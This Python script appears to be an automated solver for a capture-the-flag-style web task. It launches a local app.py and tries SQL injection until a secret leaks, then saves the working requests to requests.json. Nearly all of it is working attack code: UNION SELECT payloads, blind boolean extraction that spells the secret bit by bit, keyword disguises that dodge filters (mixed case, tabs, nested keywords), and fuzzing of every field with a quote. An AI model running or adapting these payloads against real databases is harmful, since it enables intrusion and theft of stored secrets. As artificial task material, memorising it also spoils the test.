"""Tries statements of its own on a local instance of app.py and writes requests.json if one works.

Runs in the task's folder. The plan names the secret's table and column; with findings of a reading
it tries those places only, else every field of every page with stock values.
"""

import base64
import http.client
import itertools
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

PLAN = json.loads(base64.b64decode("@PLAN@"))
TABLE, COLUMN = PLAN["table"], PLAN["column"]
SAMPLE = Path("data/secret.txt").read_text(encoding="utf-8").strip()
KEYWORDS = ("UNION", "SELECT", "FROM", "WHERE", "CASE", "WHEN", "THEN", "ELSE", "END")
ME = {"name": "visitor", "password": "visitor-pass"}
Request = dict[str, Any]


def titled(value: str) -> str:
    """Key words in mixed letters."""
    return re.sub("|".join(KEYWORDS), lambda word: word[0].title(), value)


def nested(value: str) -> str:
    """Key words that appear once the same words inside them are taken out."""
    doubled = "|".join(KEYWORDS[:4])
    return re.sub(doubled, lambda word: word[0][0] + word[0] + word[0][1:], value)


def tabbed(value: str) -> str:
    """No blanks."""
    return value.replace(" ", "\t")


def unchanged(value: str) -> str:
    """As it is."""
    return value


class Instance:
    """A local instance, with a visitor's cookies."""

    def __init__(self) -> None:
        command = [sys.executable, "app.py", "--port", "0", "--data", "data"]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
        line = self.process.stdout.readline() if self.process.stdout else ""
        self.port = int(line.rsplit(":", 1)[1])
        self.session = ""

    def send(self, request: Request) -> tuple[int, str]:
        """(status, page)."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=3)
        try:
            body = request.get("body", "").encode()
            headers = {"Cookie": self.session} if self.session else {}
            connection.request(request["method"], request["path"], body, headers)
            response = connection.getresponse()
            page = response.read().decode("utf-8", "replace")
        except (OSError, http.client.HTTPException):
            return 0, ""
        finally:
            connection.close()
        self.session = (response.getheader("Set-Cookie") or self.session).split(";")[0]
        return response.status, page

    def stop(self) -> None:
        """End it."""
        self.process.kill()
        self.process.communicate()


def get(path: str, fields: dict[str, str]) -> Request:
    """A GET request."""
    return {"method": "GET", "path": f"{path}?{urlencode(fields, quote_via=quote)}"}


def post(path: str, fields: dict[str, str]) -> Request:
    """A POST request."""
    return {"method": "POST", "path": path, "body": urlencode(fields, quote_via=quote)}


def replayed(requests: list[Request]) -> list[str]:
    """The pages of a fresh instance."""
    instance = Instance()
    try:
        return [instance.send(request)[1] for request in requests]
    finally:
        instance.stop()


def entering(finding: dict[str, Any]) -> list[Request]:
    """What comes first: nothing, or becoming a member."""
    return [post(path, ME) for path in finding.get("enter", ())]


def asking(finding: dict[str, Any], value: str, number: int) -> list[Request]:
    """The requests that bring a value to its statement; the last one's page is the answer."""
    if "store" not in finding:
        return [get(finding["path"], {finding["field"]: value})]
    fields = dict.fromkeys(finding["others"], "1") | {finding["field"]: value}
    moves = [post(path, {"id": str(number)}) for path in finding["moves"]]
    page = get(finding["path"], {"id": str(number)})
    return [post(finding["store"], fields), *moves, page]


def unions(place: str, columns: int) -> Iterator[str]:
    """Values that add the secret to the rows of a page."""
    added = f"UNION SELECT {', '.join([COLUMN] * columns)} FROM {TABLE}"  # noqa: S608 - the task
    if place == "number":
        yield f"0 {added} -- "
        yield f"0 {added}"
        return
    yield f"zz' {added} -- "
    yield f"zz' {added} WHERE '1' = '1"
    yield f"zz' {added} WHERE '%' = '"


def question(place: str, condition: str) -> str:
    """A value whose page depends on a condition."""
    if place == "order":
        return f"CASE WHEN {condition} THEN id ELSE -id END"
    if place == "number":
        return f"0 OR {condition}"
    return f"zz' OR {condition} AND '1' = '1"


def bits() -> Iterator[str]:
    """Conditions for the bits of the secret, without quotes."""
    for place, bit in itertools.product(range(1, len(SAMPLE) + 1), (3, 2, 1, 0)):
        letter = f"unicode(substr({COLUMN}, {place}, 1))"
        digit = f"(({letter} & 15) + 9 * ({letter} >> 6))"
        yield f"(SELECT ({digit} >> {bit}) & 1 FROM {TABLE})"  # noqa: S608 - the task


def show(finding: dict[str, Any]) -> dict[str, Any] | None:
    """Requests that make a page show the secret."""
    for value in unions(finding["place"], finding["columns"]):
        for disguise in (unchanged, titled, tabbed, nested):
            requests = entering(finding) + asking(finding, disguise(value), 1)
            if SAMPLE in replayed(requests)[-1]:
                return {"requests": requests}
    return None


def spell(finding: dict[str, Any]) -> dict[str, Any] | None:
    """Requests whose yes-or-no pages spell the secret."""
    # A stored value costs three requests a try, so this control gives up on it sooner.
    disguises = (
        (unchanged, titled, tabbed) if "store" in finding else (unchanged, titled, tabbed, nested)
    )
    for disguise in disguises:
        truth = told_apart(finding, disguise)
        if truth is None:
            continue
        requests = entering(finding)
        for number, condition in enumerate(bits(), start=1):
            asked = asking(finding, disguise(question(finding["place"], condition)), number)
            requests += [*asked[:-1], {**asked[-1], "bit": True}]
        pages = replayed(requests)
        spelt = [
            str(int(truth in page)) for r, page in zip(requests, pages, strict=True) if "bit" in r
        ]
        if f"{int(''.join(spelt), 2):0{len(SAMPLE)}x}" == SAMPLE:
            return {"true_text": truth, "requests": requests}
    return None


def told_apart(finding: dict[str, Any], disguise: Callable[[str], str]) -> str | None:
    """The page of a true condition, if that of a false one differs."""
    asked = [f"(SELECT {n} FROM {TABLE})" for n in (1, 0)]  # noqa: S608 - the task
    values = [disguise(question(finding["place"], condition)) for condition in asked]
    steps = [asking(finding, value, n) for n, value in enumerate(values, start=1)]
    pages = replayed(entering(finding) + steps[0] + steps[1])
    true, false = pages[-len(steps[1]) - 1], pages[-1]
    return true if true and true not in false else None


def stock() -> dict[str, Any] | None:
    """Every page and field with a quote; where that fails, the usual values."""
    fields = sorted(set(re.findall(r"form\.get\(\"(\w+)\"", Path("app.py").read_text("utf-8"))))
    instance = Instance()
    try:
        lines = instance.send(get("/", {}))[1].splitlines()
        paths = [line.split()[1] for line in lines if line.startswith("GET ")]
        for path, field in itertools.product(paths, fields):
            if instance.send(get(path, {field: "'"}))[0] < 500:  # noqa: PLR2004 - a failure
                continue
            for columns, place, disguise in itertools.product(
                range(1, 6), ("text", "number"), (unchanged, titled, tabbed)
            ):
                request = get(path, {field: disguise(next(unions(place, columns)))})
                if SAMPLE in instance.send(request)[1]:
                    return {"requests": [request]}
    finally:
        instance.stop()
    return None


def main() -> None:
    """Try, and write what works."""
    answer = None
    if "findings" in PLAN:
        for finding in PLAN["findings"]:
            answer = answer or (spell(finding) if finding["blind"] else show(finding))
    else:
        answer = stock()
    if answer is None:
        sys.stdout.write("nothing worked\n")
        return
    Path("requests.json").write_text(json.dumps(answer), encoding="utf-8")
    sys.stdout.write(f"it worked with {len(answer['requests'])} requests\n")


main()
